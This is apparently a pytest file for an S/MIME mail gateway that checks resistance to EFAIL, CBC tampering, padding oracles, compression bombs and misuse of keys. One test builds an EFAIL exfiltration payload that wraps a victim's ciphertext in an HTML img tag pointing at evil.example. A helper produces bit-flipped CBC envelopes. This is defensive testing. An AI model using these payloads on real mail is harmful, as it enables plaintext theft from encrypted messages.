"""Somebody sends us other people's ciphertext, whole, changed or among his own text: he learns and gets nothing.

Threats 28 and 30 to 32: EFAIL's direct exfiltration, changed CBC, padding and format oracles by the reply, by a
report, or by whom the content goes to. Whatever policy is in force, the reply says nothing about the plaintext.
"""

import base64
import re
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ime_gateway.base.outcome import Accepted, Refused
from ime_gateway.pipeline import open_up
from tests.cbc_envelope import CbcEnvelope, flipped
from tests.core import close, person, root
from tests.incoming_world import ANNA, BOB, BOLT, CANARY, CAROL, DOMAIN, IME, KIM, Incoming, incoming
from tests.smime_mail import compressed, encrypted, mail, signed, text_entity

SECRET = text_entity(f"<p>{CANARY}</p>\n" * 20, content_type="text/html")


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Incoming]:
    world = incoming(tmp_path_factory.mktemp("incoming"))
    yield world
    close(world.core)


@pytest.fixture
def world(shared: Incoming) -> Incoming:
    shared.policy()
    shared.partner(encryption="mandatory")
    return shared


@pytest.fixture(scope="module")
def whole() -> bytes:
    return mail(encrypted(signed(SECRET, person(KIM)), person(DOMAIN), cipher="aes-256-cbc"), KIM, BOB)


def der_of(entity: bytes) -> bytes:
    return base64.b64decode(entity.partition(b"\n\n")[2])


def as_entity(der: bytes) -> bytes:
    head = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n"
    return head + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(der)


def changed(entity: bytes) -> list[bytes]:
    """Copies of a CBC mail with one change each: vector, first, middle and last block, length, and wrapped key."""
    der = der_of(entity)
    envelope = CbcEnvelope(der)
    text = envelope.ciphertext
    made = [envelope.rebuilt(iv=flipped(envelope.iv, place)) for place in (0, 15)]
    made += [envelope.rebuilt(ciphertext=flipped(text, place)) for place in (0, 40, len(text) // 2)]
    made += [envelope.rebuilt(ciphertext=flipped(text, len(text) - 17, bit)) for bit in (1, 2, 16)]
    made += [envelope.rebuilt(ciphertext=flipped(text, len(text) - 1)), envelope.rebuilt(ciphertext=text[:-16])]
    made += [envelope.rebuilt(ciphertext=text[:32]), envelope.rebuilt(ciphertext=text[:-1])]
    made += [envelope.rebuilt(recipients=[flipped(envelope.recipient, len(envelope.recipient) - 1)])]
    return [as_entity(one) for one in made]


@pytest.mark.parametrize(
    "wanted",
    [{}, {"desktop_encrypted": "refuse"}, {"bad_signature": "refuse"}, {"legacy_decryption": True}],
    ids=lambda wanted: "-".join(wanted) or "default",
)
def test_the_reply_says_nothing_about_plaintext(world: Incoming, wanted: dict[str, object]) -> None:
    world.policy(**wanted)
    world.partner(encryption="mandatory", incoming_clear="refuse")
    good = encrypted(signed(SECRET, person(KIM)), person(DOMAIN), cipher="aes-256-cbc")
    outcomes = [world.arrive(mail(entity, KIM, BOB))[0] for entity in (good, *changed(good))]
    assert [type(outcome) for outcome in outcomes] == [Accepted] * len(outcomes)


def test_changed_ciphertext_never_counts_as_signed(world: Incoming) -> None:
    content = signed(SECRET, person(KIM))
    whole = encrypted(content, person(DOMAIN), cipher="aes-256-cbc")
    _, copies = world.arrive(mail(whole, KIM, BOB))
    assert "[signed OK]" in copies[BOB].head
    states = set()
    for number in range(len(changed(whole))):
        # Under a key of its own: beside the true content a changed one is not opened at all.
        entity = changed(encrypted(content, person(DOMAIN), cipher="aes-256-cbc"))[number]
        _, copies = world.arrive(mail(entity, KIM, BOB))
        good = "[signed OK]" in copies[BOB].unfolded
        states.add(("X-SM-decrypted" in copies[BOB].head, good))
        # Only what stands around the signed text may have been changed under a good signature.
        assert not good or SECRET.replace(b"\n", b"\r\n") in copies[BOB].wire
    assert {(True, False), (False, False)} <= states


def test_what_policy_does_not_let_pass_unscanned_is_left_out(world: Incoming) -> None:
    world.policy(desktop_encrypted="refuse")
    broken = changed(encrypted(SECRET, person(DOMAIN), cipher="aes-256-cbc"))[-1]
    outcome, copies = world.arrive(mail(broken, KIM, BOB))
    assert isinstance(outcome, Accepted)
    body = copies[BOB].wire.partition(b"\r\n\r\n")[2]
    assert b"could not be opened" in body and b"MII" not in body
    assert copies[BOB].reason == "desktop-encrypted" and "pkcs7" not in copies[BOB].head


@pytest.mark.parametrize("inner", [{"reader": BOB}, {"reader": DOMAIN, "broken": True}])
def test_an_encryption_inside_one_of_ours_is_not_scanned_either(world: Incoming, inner: dict[str, object]) -> None:
    world.policy(desktop_encrypted="refuse")
    layer = encrypted(SECRET, person(str(inner["reader"])), cipher="aes-256-cbc")
    layer = changed(layer)[-1] if "broken" in inner else layer
    outcome, copies = world.arrive(mail(encrypted(layer, person(DOMAIN), cipher="aes-256-cbc"), KIM, BOB))
    assert isinstance(outcome, Accepted)
    assert b"could not be opened" in copies[BOB].wire and b"MII" not in copies[BOB].wire


def test_a_part_among_others_is_not_opened(world: Incoming) -> None:
    """EFAIL, direct exfiltration (CVE-2017-17689): text of the attacker around the ciphertext."""
    victim = encrypted(SECRET, person(DOMAIN), cipher="aes-256-cbc")
    parts = [
        b'Content-Type: text/html\n\n<img src="http://evil.example/',
        victim,
        b'Content-Type: text/html\n\n">',
    ]
    body = b"".join(b"--b1\n" + part + b"\n" for part in parts) + b"--b1--\n"
    for kind in (b"mixed", b"related", b"alternative"):
        outcome, copies = world.arrive(
            mail(b"Content-Type: multipart/" + kind + b"; boundary=b1\n\n" + body, "eve@evil.example", BOB)
        )
        assert isinstance(outcome, Accepted)
        assert CANARY.encode() not in copies[BOB].wire
        assert "secure" not in copies[BOB].head and "decrypted" not in copies[BOB].head


def test_an_attached_message_is_not_opened(world: Incoming) -> None:
    victim = mail(encrypted(SECRET, person(DOMAIN)), KIM, ANNA)
    _, copies = world.arrive(mail(b"Content-Type: message/rfc822\n\n" + victim, "eve@evil.example", BOB))
    assert CANARY.encode() not in copies[BOB].wire and "secure" not in copies[BOB].head


@pytest.mark.parametrize("reader", [IME, BOLT, ANNA, CAROL, BOB])
def test_no_other_key_opens_mail_for_a_recipient(world: Incoming, reader: str) -> None:
    """P8: not the IME key, not another domain's, not another person's, and nobody's own that is not here."""
    outcome, copies = world.arrive(mail(encrypted(SECRET, person(reader)), KIM, BOB))
    assert isinstance(outcome, Accepted)
    assert CANARY.encode() not in copies[BOB].wire
    assert copies[BOB].reason == "not-required" and "decrypted" not in copies[BOB].head


def test_the_certification_authority_opens_nothing(world: Incoming) -> None:
    _, copies = world.arrive(mail(encrypted(SECRET, root()), KIM, BOB))
    assert CANARY.encode() not in copies[BOB].wire


def test_each_recipient_has_what_their_own_keys_open(world: Incoming) -> None:
    entity = encrypted(SECRET, person(ANNA), person(CAROL))
    _, copies = world.arrive(mail(entity, KIM, [ANNA, BOB]), ANNA, BOB, CAROL)
    opened = {who: CANARY.encode() in copy.wire for who, copy in copies.items()}
    assert opened == {ANNA: True, BOB: False, CAROL: True}
    assert len({copy.envelope for copy in copies.values()}) == 3
    for who, other in ((ANNA, CAROL), (CAROL, ANNA), (BOB, ANNA)):  # P6: keys name their owners
        assert person(other).certificate.thumbprint not in copies[who].head
    assert person(ANNA).certificate.thumbprint in copies[ANNA].head


def test_a_personal_layer_inside_one_of_the_domain(world: Incoming) -> None:
    entity = encrypted(encrypted(SECRET, person(ANNA)), person(DOMAIN))
    _, copies = world.arrive(mail(entity, KIM, [ANNA, BOB]), ANNA, BOB)
    assert CANARY.encode() in copies[ANNA].wire and CANARY.encode() not in copies[BOB].wire
    assert "X-SM-decrypted: yes" in copies[BOB].head and "X-SM-encrypted: yes" in copies[BOB].head
    assert b"pkcs7-mime" in copies[BOB].wire


def test_bombs_and_towers_are_opened_as_far_as_is_safe(world: Incoming) -> None:
    bomb = encrypted(compressed(text_entity("0" * 30_000_000)), person(DOMAIN))
    outcome, copies = world.arrive(mail(bomb, KIM, BOB))
    assert isinstance(outcome, Accepted)
    assert len(copies[BOB].wire) < 200_000 and "smime.p7z" in copies[BOB].head
    tower = SECRET
    for _ in range(12):
        tower = encrypted(tower, person(DOMAIN))
    outcome, copies = world.arrive(mail(tower, KIM, BOB))
    assert isinstance(outcome, Accepted)
    assert CANARY.encode() not in copies[BOB].wire and "X-SM-encrypted: yes" in copies[BOB].head
    assert copies[BOB].unfolded.count("X-IMEGW-Encryption:") == 10


def test_large_mail_for_many_is_refused_by_what_everybody_sees(
    world: Incoming, monkeypatch: pytest.MonkeyPatch
) -> None:
    entity = encrypted(SECRET, person(ANNA), person(CAROL))
    data = mail(entity, KIM, BOB)
    monkeypatch.setattr(open_up, "MOST_OPENED_BYTES", int(1.5 * len(data)))
    outcome, _ = world.arrive(data, ANNA, CAROL)
    assert isinstance(outcome, Refused) and outcome.reason.value == "too-large"
    wrong = CbcEnvelope(der_of(encrypted(SECRET, person(ANNA), cipher="aes-256-cbc")))
    twice = as_entity(wrong.rebuilt(recipients=[flipped(wrong.recipient, len(wrong.recipient) - 1)]))
    outcome, _ = world.arrive(mail(twice, KIM, BOB), ANNA, CAROL)
    assert isinstance(outcome, Accepted)


def test_desktop_mail_passes_byte_for_byte(world: Incoming) -> None:
    """SMG-8, T5: everything behind the header block, whatever it is."""
    entity = encrypted(SECRET, person(BOB), cipher="aes-256-cbc").replace(b"MIME-Version: 1.0\n", b"")
    data = mail(entity, KIM, BOB, subject="odd   spacing [secure]")
    _, copies = world.arrive(data)
    sent = data.replace(b"\n", b"\r\n")
    assert copies[BOB].wire.partition(b"\r\n\r\n")[2] == sent.partition(b"\r\n\r\n")[2]
    head, before = copies[BOB].wire.partition(b"\r\n\r\n")[0], sent.partition(b"\r\n\r\n")[0]
    for line in before.split(b"\r\n"):
        assert line in head or line.startswith(b"Subject")
    assert re.search(rb"Subject: odd spacing\r\n", head)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_whatever_comes_is_answered(world: Incoming, whole: bytes, data: st.DataObject) -> None:
    """A mail with octets changed anywhere behind its addresses is taken or refused; nothing falls over."""
    start = whole.index(b"MIME-Version")
    changed_mail = bytearray(whole)
    for _ in range(data.draw(st.integers(1, 6))):
        changed_mail[data.draw(st.integers(start, len(whole) - 1))] = data.draw(st.integers(32, 126))
    outcome, _ = world.arrive(bytes(changed_mail))
    assert isinstance(outcome, Accepted | Refused)
